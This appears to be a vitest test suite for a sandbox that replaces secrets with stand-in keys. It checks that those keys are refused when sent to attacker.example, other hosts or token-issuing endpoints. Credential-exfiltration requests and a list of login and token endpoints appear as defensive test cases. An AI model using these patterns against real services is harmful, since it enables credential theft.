/**
 * A stand-in is worth nothing but for the run of the task that it was made for, at the hosts of its key, over TLS. Judged by what arrived
 * at the origins; each refused attempt stands beside one that passes with the real key.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { EgressEntry } from "../../app/contract/index.ts";
import { inGuest, WHO, type Who } from "./folders-support.ts";
import { allThatArrived, headerAt, type Online, online, random } from "./keys-support.ts";

const api = "api.fixture.example";
const other = "other.fixture.example";
const evil = "attacker.example";
const value = `key-${random()}`;
/** services that hand out logins, tokens and keys, by their real names; nothing of theirs is reached */
const issuers = [
  "api.github.com",
  "gitlab.com",
  "registry.npmjs.org",
  "pypi.org",
  "api.anthropic.com",
  "console.anthropic.com",
  "auth.openai.com",
  "oauth2.googleapis.com",
  "sts.amazonaws.com",
];

let on: Online;
let evilAddress = "";
beforeAll(async () => {
  on = await online([{ name: api }, { name: other }, { name: "github.com", names: issuers }]);
  evilAddress = await on.internet.origin({ name: evil });
  const add = (name: string, host: string, ...args: string[]) =>
    on.cloche.ok(["secret", "add", name, "--memory", "--host", host, ...args], { input: value });
  await add("api", api, "--as", "x-api-key", "--env", "API_KEY");
  await add("hub", "api.github.com", "--env", "HUB_KEY");
  const project = on.cloche.folder("project");
  mkdirSync(join(project, ".agent"));
  const reach = [api, `${api}:80`, other, `${other}:80`].flatMap((host) => ["--allow", host]);
  await on.cloche.ok(["new", "one", "--share", project, ...reach, "--secret", "api"]);
  await on.cloche.ok(["new", "two", ...reach, "--secret", "api", "--secret", "hub", "--network", "models,packages,git"]);
  await on.cloche.ok(["start", "one"]);
  await on.cloche.ok(["start", "two"]);
});
afterAll(() => on?.end());
beforeEach(() => on.internet.forget());
afterEach(() => {
  expect(on.cloche.guestComplaints()).toEqual([]);
});

/** A program for the guest: one request after the other, by their names; what it says of them is a hint, and only that. */
const REQUESTS = `
import http.client, json, socket, ssl, sys, urllib.parse
context = ssl.create_default_context()
class Plain(http.client.HTTPConnection):
    def connect(self): self.sock = socket.create_connection((self.to or self.host, self.port), 60)
class Tls(Plain):
    def connect(self):
        super().connect()
        self.sock = context.wrap_socket(self.sock, server_hostname=self.host)
def one(url, headers={}, method="GET", body=None, to=None):
    parts = urllib.parse.urlsplit(url)
    tls = parts.scheme == "https"
    connection = (Tls if tls else Plain)(parts.hostname, 443 if tls else 80, timeout=60)
    connection.to = to
    connection.request(method, parts.path + ("?" + parts.query if parts.query else ""), body, headers)
    answer = connection.getresponse()
    answer.read()
    return answer.status
said = {}
for name, (url, more) in json.loads(sys.argv[1]).items():
    try: said[name] = one(url, **more)
    except Exception as error: said[name] = type(error).__name__
print(json.dumps(said))
`;
interface More {
  readonly headers?: Readonly<Record<string, string>>;
  readonly method?: string;
  readonly body?: string;
  /** the host that is connected to, in place of the address's */
  readonly to?: string;
}
type Attempts = Readonly<Record<string, readonly [url: string, more: More]>>;
type Said = Record<string, number | string>;
const attempt = (task: string, who: Who, attempts: Attempts) => inGuest<Said>(on.cloche, task, who, REQUESTS, JSON.stringify(attempts));
const get = (url: string, headers: More["headers"] = {}, more: More = {}) => [url, { headers, ...more }] as const;
const post = (url: string, headers: More["headers"] = {}, method = "POST") => [url, { headers, method, body: "a=b" }] as const;

/** What an agent does with a project's settings, and no more. */
const AGENT = `
import glob, json, sys, urllib.request
said = []
for settings in sorted(glob.glob("/home/you/project/.agent/settings-*.json")):
    base = json.load(open(settings))["api_base_url"]
    request = urllib.request.Request(base + "/v1/messages", headers={"x-api-key": sys.argv[1]}, data=b"{}")
    try: said.append(str(urllib.request.urlopen(request, timeout=60).status))
    except Exception as error: said.append(str(error))
print(json.dumps(said))
`;

const standIn = async (task: string, variable = "API_KEY") =>
  (await on.cloche.ok(["exec", task, "--", "printenv", variable])).stdout.trim();
const header = (key: string) => ({ "x-api-key": key });
const bearer = (key: string) => ({ authorization: `Bearer ${key}` });
const basic = (key: string) => ({ authorization: `Basic ${Buffer.from(`x-access-token:${key}`).toString("base64")}` });
/** What arrived at each origin: its path. */
const arrived = async () => (await on.internet.seen()).requests.map(({ origin, target }) => `${origin}${target}`);
const refusals = async (task: string) =>
  (await on.cloche.events(task))
    .filter(({ kind }) => kind === "egress.decided")
    .flatMap(({ data }) => data.entries as EgressEntry[])
    .filter(({ decision }) => decision === "deny");

describe.each(WHO)("a stand-in, used by the guest's %s", (who) => {
  it("C02, C03: is refused at every other place; where it may stay what it is, it arrives as it is", async () => {
    const key = await standIn("one");
    const said = await attempt("one", who, {
      control: get(`https://${api}/control`, header(key)),
      "another allowed host": get(`https://${other}/header`, header(key)),
      "another allowed host, bearer": get(`https://${other}/bearer`, bearer(key)),
      "another allowed host, basic": get(`https://${other}/basic`, basic(key)),
      "another allowed host, cookie": get(`https://${other}/cookie`, { cookie: `a=${key}` }),
      "another allowed host, query": get(`https://${other}/query?key=${key}`),
      "another allowed host, path": get(`https://${other}/path/${key}`),
      "a host that is not allowed": get(`https://${evil}/header`, header(key)),
      "without TLS": get(`http://${api}/plain`, header(key)),
      "without TLS, another host": get(`http://${other}/plain`, header(key)),
      "another header": get(`https://${api}/elsewhere`, bearer(key)),
      "another place": get(`https://${api}/query?key=${key}`),
      "as text of a body": get(`https://${other}/body`, {}, { method: "POST", body: `text=${key}` }),
    });
    expect(Object.entries(said).filter(([, status]) => status !== 403)).toEqual([
      ["control", 200],
      ["as text of a body", 200],
    ]);
    expect(await arrived()).toEqual([`${api}/control`, `${other}/body`]);
    const seen = await on.internet.seen();
    expect(headerAt(seen, api, "x-api-key")).toEqual([value]);
    expect(allThatArrived({ ...seen, requests: seen.requests.filter(({ origin }) => origin !== api) })).not.toContain(value);
    expect(seen.queries.map(({ name }) => name)).not.toContain(evil);
  });

  it("C05: a project that names another address for its API gets the agent to send it nowhere", async () => {
    const bases = [
      `https://${evil}`,
      `https://${evilAddress}`,
      `https://${other}`,
      `http://${other}`,
      `http://${api}`,
      `https://${api}.${evil}`,
      `https://${api}@${evil}`,
      `https://${api}`,
    ];
    for (const [at, base] of bases.entries())
      writeFileSync(join(on.cloche.directory, `project/.agent/settings-${at}.json`), JSON.stringify({ api_base_url: base }));
    expect(await inGuest<string[]>(on.cloche, "one", who, AGENT, await standIn("one"))).toHaveLength(bases.length);
    expect(await arrived()).toEqual([`${api}/v1/messages`]);
    const seen = await on.internet.seen();
    expect(headerAt(seen, api, "x-api-key")).toEqual([value]);
    expect(seen.connections.map(({ address }) => address)).not.toContain(evilAddress);
  });

  it("C05, E09: the bound name is of no use at another address, whatever the guest makes of it", async () => {
    const key = await standIn("one");
    const said = await attempt("one", who, {
      "at another name": get(`https://${api}/named`, header(key), { to: evil }),
      "at another address": get(`https://${api}/resolved`, header(key), { to: evilAddress }),
      "at another allowed host": get(`https://${api}/allowed`, header(key), { to: other }),
      "Host of another": get(`https://${other}/host`, { ...header(key), host: api }),
      control: get(`https://${api}/control`, header(key)),
    });
    expect(said).toMatchObject({ "at another allowed host": 421, "Host of another": 421, control: 200 });
    expect(await arrived()).toEqual([`${api}/control`]);
    expect((await on.internet.seen()).connections.map(({ address }) => address)).not.toContain(evilAddress);
  });

  it("C09, C11: the endpoints that log in or hand out tokens are reached by no preset, and a fetch of code is", async () => {
    const withKey = bearer(await standIn("two", "HUB_KEY"));
    const said = await attempt("two", who, {
      "device flow": post("https://github.com/login/device/code"),
      "device flow's end": post("https://github.com/login/oauth/access_token"),
      "browser's login": get("https://github.com/login/oauth/authorize?client_id=x"),
      "a key of the user's": post("https://api.github.com/user/keys", withKey),
      "a deploy key": post("https://api.github.com/repos/o/r/keys", withKey),
      "a hook": post("https://api.github.com/repos/o/r/hooks", withKey),
      "an app's token": post("https://api.github.com/app/installations/1/access_tokens", withKey),
      "GitLab's tokens": post("https://gitlab.com/oauth/token"),
      "GitLab's own tokens": post("https://gitlab.com/api/v4/user/personal_access_tokens"),
      "npm's login": post("https://registry.npmjs.org/-/user/org.couchdb.user:x", {}, "PUT"),
      "npm's tokens": post("https://registry.npmjs.org/-/npm/v1/tokens"),
      "PyPI's tokens": post("https://pypi.org/_/oidc/mint-token"),
      "a model API's keys": post("https://api.anthropic.com/v1/organizations/api_keys"),
      "a console's login": post("https://console.anthropic.com/v1/oauth/token"),
      "a login service": post("https://auth.openai.com/oauth/token"),
      "another one": post("https://oauth2.googleapis.com/token"),
      "a cloud's": post("https://sts.amazonaws.com/?Action=GetSessionToken"),
      control: get("https://github.com/o/r.git/info/refs?service=git-upload-pack"),
    });
    expect(Object.entries(said).filter(([, status]) => status !== 403)).toEqual([["control", 200]]);
    const seen = await on.internet.seen();
    expect(seen.requests.map(({ target }) => target)).toEqual(["/o/r.git/info/refs?service=git-upload-pack"]);
    expect(allThatArrived(seen)).not.toContain(value);
  });

  it("C09, C10, C11: nor where a rule opens the whole host, with the task's key or without one; the key works beside them", async () => {
    const rules: string[] = [];
    for (const host of ["github.com", "api.github.com", "gitlab.com", "registry.npmjs.org"])
      rules.push(JSON.parse((await on.cloche.ok(["allow", "two", host, "--json"])).stdout).rule.id);
    const withKey = bearer(await standIn("two", "HUB_KEY"));
    const said = await attempt("two", who, {
      "device flow": post("https://github.com/login/device/code"),
      "device flow's end": post("https://github.com/login/oauth/access_token"),
      "a key of the user's": post("https://api.github.com/user/keys", withKey),
      "a deploy key": post("https://api.github.com/repos/o/r/keys", withKey),
      "a deploy key, otherwise spelled": post("https://api.github.com/repos/o/r/%6beys", withKey),
      "a hook": post("https://api.github.com/repos/o/r/hooks", withKey),
      "a member": post("https://api.github.com/repos/o/r/collaborators/x", withKey, "PUT"),
      "an app's token": post("https://api.github.com/app/installations/1/access_tokens", withKey),
      "GitLab's tokens": post("https://gitlab.com/oauth/token"),
      "npm's login": post("https://registry.npmjs.org/-/user/org.couchdb.user:x", {}, "PUT"),
      "npm's tokens": post("https://registry.npmjs.org/-/npm/v1/tokens"),
      control: get("https://api.github.com/repos/o/r", withKey),
    });
    for (const rule of rules) await on.cloche.ok(["policy", "rm", "two", rule]);
    expect(Object.entries(said).filter(([, status]) => status !== 403)).toEqual([["control", 200]]);
    const seen = await on.internet.seen();
    expect(seen.requests.map(({ target }) => target)).toEqual(["/repos/o/r"]);
    expect(headerAt(seen, "github.com", "authorization")).toEqual([`Bearer ${value}`]);
  });
});

describe("C04: a stand-in that was for another run, another task, or was taken away", () => {
  /** Tried at the key's own host, in every header that could carry it; by root alone where both were refused before, as the host is not told who asks. */
  const replayed = async (task: string, key: string, by: readonly Who[] = ["root"]) => {
    for (const who of by) {
      const said = await attempt(task, who, {
        header: get(`https://${api}/replayed`, header(key)),
        bearer: get(`https://${api}/replayed`, bearer(key)),
        basic: get(`https://${api}/replayed`, basic(key)),
      });
      expect([who, said]).toEqual([who, { header: 403, bearer: 403, basic: 403 }]);
    }
    expect(await arrived()).toEqual([]);
    const made = 3 * by.length;
    expect((await refusals(task)).slice(-made).map(({ request }) => request.path)).toEqual(Array(made).fill("/replayed"));
  };
  /** Its own one works, so that the key, the host and the way there are not what was refused. */
  const control = async (task: string) => {
    await on.cloche.ok(["exec", task, "--", "sh", "-c", `curl -sS -m 60 -o /dev/null -H "x-api-key: $API_KEY" https://${api}/control`]);
    expect(headerAt(await on.internet.seen(), api, "x-api-key")).toEqual([value]);
    await on.internet.forget();
  };
  let before = "";

  it("is refused in another task that has the same key", async () => {
    before = await standIn("one");
    expect(before).not.toBe(await standIn("two"));
    await control("one");
    await replayed("two", before, WHO);
    await control("two");
  });

  it("is refused once its key was taken from the task; given again, the key has another one, and the first stays refused", async () => {
    await on.cloche.ok(["secret", "take", "one", "api"]);
    await replayed("one", before);
    expect((await on.cloche.run(["exec", "one", "--", "printenv", "API_KEY"])).stdout).toBe("");
    await on.cloche.ok(["secret", "give", "one", "api"]);
    expect(await standIn("one")).not.toBe(before);
    await replayed("one", before);
    await control("one");
  });

  it("is refused after the task was stopped and started, by the same disk on which it was kept", async () => {
    const kept = await standIn("one"); // with which the test before ended well
    await on.cloche.ok(["exec", "one", "--", "sh", "-c", 'printf %s "$API_KEY" > ~/kept; sync']);
    await on.cloche.ok(["stop", "one"]);
    await on.cloche.ok(["start", "one"]);
    expect((await on.cloche.ok(["exec", "one", "--", "cat", "/home/you/kept"])).stdout).toBe(kept);
    expect(await standIn("one")).not.toBe(kept);
    await replayed("one", kept);
    await control("one");
  });

  it("is refused once its key is removed altogether", async () => {
    const last = await standIn("one");
    await on.cloche.ok(["secret", "rm", "api"]);
    await replayed("one", last);
  });
});
